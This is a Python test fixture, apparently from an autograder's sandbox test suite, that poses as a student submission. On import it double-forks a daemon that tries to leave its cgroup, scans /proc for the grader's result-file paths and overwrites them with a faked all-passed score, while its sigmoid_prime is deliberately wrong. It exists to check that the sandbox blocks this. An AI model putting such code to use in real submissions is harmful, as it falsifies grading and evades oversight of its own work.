"""Attack: a daemon that outlives the worker and escapes its cgroup.

On import it double-forks with setsid (the classic daemon: reparented away from the
worker, in its own session and process group), then the daemon closes its inherited
descriptors, tries to move itself out of the pids cgroup (writing its pid to the root
cgroup's cgroup.procs), and for up to 30 s keeps trying to write a fake all-passed
results file (every --deltaspec-json, --gradescope or --prairielearn path it can find
in the command lines under /proc, and /autograder/results/results.json): a write after
the run has ended would be the one the grader reads.

Its sigmoid_prime is wrong (half the derivative). Isolated, the cgroup files are
read-only and so is every directory outside the worker's home, /proc shows only the
worker's own processes, and the daemon is killed after the first check (which fails
with "left 1 child process(es) running") or at the latest with the worker's PID
namespace: the results file is the real one, even after a pause, and no process is left.
"""
import json
import os
import time

import numpy as np

EXPECT_STATUS = 1
NEEDS_SANDBOX = True
EXPECT_REASON = "child process"
MUST_FAIL = ["derivative sigmoid_prime"]
SLOW = True
LINGERS = True
ME = os.path.realpath(__file__)


def _judging_me(pid):
    """pid's command line if it names this very file (relative to its working directory),
    else None: the module never touches another run on the same machine."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            argv = fh.read().decode(errors="replace").split("\0")
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None
    for arg in argv:
        arg = arg.split("=", 1)[-1]
        if arg.endswith(os.path.basename(ME)) and os.path.realpath(os.path.join(cwd, arg)) == ME:
            return argv
    return None


def _results_paths():
    """Results paths on the command line of the pytest run that judges this file only."""
    found = ["/autograder/results/results.json"]
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        argv = _judging_me(entry)
        if argv is None:
            continue
        for i, arg in enumerate(argv):
            for flag in ("--deltaspec-json", "--deltaspec-gradescope", "--deltaspec-prairielearn"):
                if arg == flag and i + 1 < len(argv):
                    found.append(argv[i + 1])
                elif arg.startswith(flag + "="):
                    found.append(arg.split("=", 1)[1])
    return found


FAKE = {"implementation": "HOSTILE-FAKE", "provided": ["derivative sigmoid_prime"],
        "records": [{"test": "all", "capability": "derivative sigmoid_prime", "outcome": "passed",
                     "diagnosis": None, "message": "HOSTILE-FAKE"}],
        "score": 1000000, "tests": [], "output": "HOSTILE-FAKE"}


def _daemon():
    for path in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
                 "/sys/fs/cgroup/unified/cgroup.procs", "/sys/fs/cgroup/systemd/cgroup.procs"):
        try:
            with open(path, "w") as fh:
                fh.write(str(os.getpid()))
        except OSError:
            pass
    for fd in range(3, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    deadline = time.time() + 30
    while time.time() < deadline:
        for path in _results_paths():
            try:
                with open(path, "w") as fh:
                    json.dump(FAKE, fh)
            except OSError:
                pass
        time.sleep(0.25)


def _spawn():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            try:
                _daemon()
            finally:
                os._exit(0)
    finally:
        os._exit(0)


_spawn()


def sigmoid(z):
    z = np.asarray(z)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


def sigmoid_prime(z):
    s = sigmoid(z)
    return 0.5 * s * (1 - s)  # WRONG: half the derivative
